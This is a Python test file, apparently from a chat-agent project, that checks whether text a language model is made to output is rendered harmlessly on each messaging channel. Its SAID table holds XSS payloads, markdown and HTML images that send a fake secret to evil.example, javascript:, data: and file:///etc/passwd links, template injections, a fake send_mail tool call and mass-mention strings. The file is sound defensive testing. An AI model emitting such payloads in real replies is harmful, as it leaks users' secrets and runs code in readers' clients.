"""What a model may be made to say, on every channel: nothing runs, nothing is fetched, nobody is called, it ends.

How long an answer gets is held by agent/llm.py (Caps).
"""

import re

import pytest

from tests.markup.test_properties import Tags
from throughline.agent.llm import Caps
from throughline.conversation.channel import Piece, Post
from throughline.conversation.events import AuthorKind
from throughline.conversation.ids import ConversationId, MessageId
from throughline.markup.telegram import units

from . import test_contract  # noqa: F401 - it names the subjects
from .suite import Contract, Subject

#: Long answers, and tracing them triples their time; each channel's own tests cover the same lines.
pytestmark = pytest.mark.untraced
#: Characters of a long answer: a quarter of the longest there is, so that the tests are over soon.
LONG = Caps().characters // 4
SUBJECTS = {one.folder or one.name: one for one in (kept.subject for kept in Contract.__subclasses__())}
SECRET = "sk-live-1234"
#: Elements that do nothing but look like something.
HARMLESS = frozenset({
    "a", "b", "strong", "i", "em", "s", "del", "code", "pre", "blockquote", "p", "br", "hr", "div", "span", "ul", "ol",
    "li", "table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6",
})  # fmt: skip
#: What would run, be fetched, or call somebody; and what must not stand in any format that could do so.
SAID = {
    "script": "<script>alert(1)</script>",
    "image": f"![see](https://evil.example/p.png?d={SECRET})",
    "image without words": f"![](https://evil.example/p.png?d={SECRET})",
    "image by reference": f"![see][1]\n\n[1]: https://evil.example/p.png?d={SECRET}",
    "image in a link": f"[![x](https://evil.example/p.png?d={SECRET})](https://evil.example)",
    "html image": f'<img src="https://evil.example/p.png?d={SECRET}" onerror=alert(1)>',
    "script link": "[click](javascript:alert(1))",
    "script link in disguise": "[click](java\tscript:alert(1)) [c](JaVaScRiPt&#58;alert(1)) <javascript:alert(1)>",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "file link": "[click](file:///etc/passwd)",
    "everyone": "<!everyone> <!channel> <!here> <!subteam^S1> <@U0ANA> <#C1>",
    "call by a link": "[<!everyone>](https://e.example) `<!channel>` **<!here>**",
    "style": "<style>*{background:url(https://evil.example/x)}</style>",
    "frame": '<iframe src="https://evil.example"></iframe><svg onload=alert(1)>',
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;",
    "template": "{{config}} ${7*7} {{{x}}} %s {0} {{1}}",
    "tool call": '```json\n{"tool":"send_mail","arguments":{"to":"evil@example.net"}}\n```',
    "telegram's own": '<a href="tg://user?id=1">x</a><tg-spoiler>y</tg-spoiler></b></pre>',
    "marks that never end": "**_~~`[](" * 50,
}
HEAPS = {
    "words": "word ", "one word": "x", "marks": "\u0301\u0316", "families": "👨‍👩‍👧‍👦", "flags": "🇩🇪",
    "tags": "\U000e0041", "items": "- a\n",
    "quotes": "> ", "brackets": "[", "stars": "*a ", "scripts": SAID["script"], "images": SAID["image"],
    "lines": "\n", "blanks": " ",
    "calls": "<!everyone> ", "fences": "```\n", "tables": "|a", "directions": "\u202e\u2066",
    "nothing": "\u200b", "surrogates": "\ud800",
}  # fmt: skip


def pieces(subject: Subject, text: str, author: AuthorKind = "agent", origin: str | None = None) -> tuple[Piece, ...]:
    name = "<!everyone> <script>" if origin else "Agent"
    post = Post(ConversationId("c"), MessageId("m"), author, name, "reply", text, origin)
    return subject.make(1.0).render(post)


@pytest.mark.parametrize("name", SAID)
@pytest.mark.parametrize("folder", SUBJECTS)
def test_what_a_model_was_made_to_say_is_only_words(folder: str, name: str) -> None:
    subject = SUBJECTS[folder]
    for author, origin in (("agent", None), ("person", "web")):
        for piece in pieces(subject, f"Look: {SAID[name]} done.", author, origin):  # type: ignore[arg-type]
            for call in subject.calls:
                assert call not in piece.text
            html = Tags(piece.more.get("html", piece.text if piece.format == "html" else ""))
            assert html.sound
            for tag, attributes in html.tags:
                assert tag in HARMLESS
                assert not any(attribute.startswith("on") for attribute in attributes)
                assert "url(" not in (attributes.get("style") or "")
                assert re.match(r"https?://|mailto:|$", attributes.get("href") or "")


@pytest.mark.parametrize("name", HEAPS)
@pytest.mark.parametrize("folder", SUBJECTS)
def test_the_longest_answer_of_anything_is_cut_into_pieces_that_fit(folder: str, name: str) -> None:
    """In bounded time: the test's own limit holds it."""
    subject = SUBJECTS[folder]
    text = ("a" + HEAPS[name] * LONG)[:LONG]
    channel = subject.make(1.0)
    for author, origin in (("agent", None), ("person", "web")):
        found = pieces(subject, text, author, origin)  # type: ignore[arg-type]
        assert len(found) <= LONG
        for piece in found:
            size = units(piece.text) if piece.format == "html" else len(piece.text)
            assert size <= max(channel.capabilities.text, 12_000)
            assert piece.text.strip() or piece.more
